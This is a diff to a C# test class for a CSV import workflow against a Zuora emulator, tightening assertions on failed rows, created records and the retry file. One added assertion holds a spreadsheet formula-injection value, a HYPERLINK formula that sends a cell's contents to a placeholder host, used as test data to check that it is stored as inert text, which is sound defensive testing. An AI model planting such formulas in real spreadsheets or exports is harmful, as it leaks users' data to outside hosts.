@@ -98,11 +98,13 @@ public sealed class CsvCaseAcceptedTests
 
         var run = await CaseRun.RunAsync(host, "formula-cells.csv");
 
-        // Rows 3 and 4 hold values Zuora refuses. Row 2 has quotes inside an unquoted field, which the emulator
-        // (strict where Zuora is undocumented) may refuse too; either way every refused row is reported safely.
+        // Rows 3 and 4 hold values Zuora refuses. Row 2 has quotes inside an unquoted field: the chunk quotes it
+        // canonically, so the strict emulator accepts it and stores the formula text unchanged.
         Assert.Equal(RunStatus.CompletedWithErrors, run.Result.Status);
         var failed = run.Summary.GetProperty("failedRecords").GetInt64();
-        Assert.Equal(3, failed + host.Emulator.RecordCount("vehicle"));
+        Assert.Equal(2, failed);
+        var created = Assert.Single(host.Emulator.Records("vehicle"));
+        Assert.Equal("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"open\")", created["make__c"].ToString());
         var errors = await host.ReadOutputTextAsync(run.Result.ErrorsBlob!);
         var lines = errors.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(failed + 1, lines.Length);
@@ -115,6 +117,7 @@ public sealed class CsvCaseAcceptedTests
         var original = File.ReadAllText(Path.Combine(EmulatorWorkflowHost.CasesFolder, "formula-cells.csv"));
         var originalLines = original.Split("\r\n");
         var failedRows = lines.Skip(1).Select(l => int.Parse(l[..l.IndexOf(',')], CultureInfo.InvariantCulture));
+        Assert.Equal([3, 4], failedRows);
         var expectedRetry = originalLines[0] + "\r\n"
             + string.Concat(failedRows.Select(row => originalLines[row - 1] + "\r\n"));
         Assert.Equal(Encoding.UTF8.GetBytes(expectedRetry), await host.ReadOutputBytesAsync(run.Result.RetryBlob!));
